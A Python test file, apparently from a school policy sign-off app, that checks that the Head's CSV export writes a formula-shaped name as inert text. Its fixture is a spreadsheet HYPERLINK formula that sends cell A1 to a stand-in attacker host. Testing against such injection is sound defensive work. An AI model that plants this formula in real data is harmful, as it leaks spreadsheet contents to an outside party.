"""The Head's sign-off export: a CSV a spreadsheet opens as text, whatever names people have."""

import csv
import io

from tests.acknowledgements.test_signoff import sign
from tests.factories import person

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_a_name_that_is_a_formula_is_exported_as_text(client, alice, st_elisabeths, se_policy):
    mallory = person(st_elisabeths, full_name=FORMULA, email="mallory@se.example")
    sign(mallory, se_policy)
    client.force_login(alice)
    response = client.get("/acknowledgements/head/", {"format": "csv"})
    assert response["Content-Disposition"] == 'attachment; filename="sign-off.csv"'
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    [row] = [row for row in rows if row["E-mail"] == "mallory@se.example"]
    assert row["Name"] == "'" + FORMULA
    assert row["SHA-256"] == se_policy.content_sha256  # the evidence itself is unchanged
    assert {r["Name"] for r in rows} >= {"Alice Archer"}  # ordinary names as they are
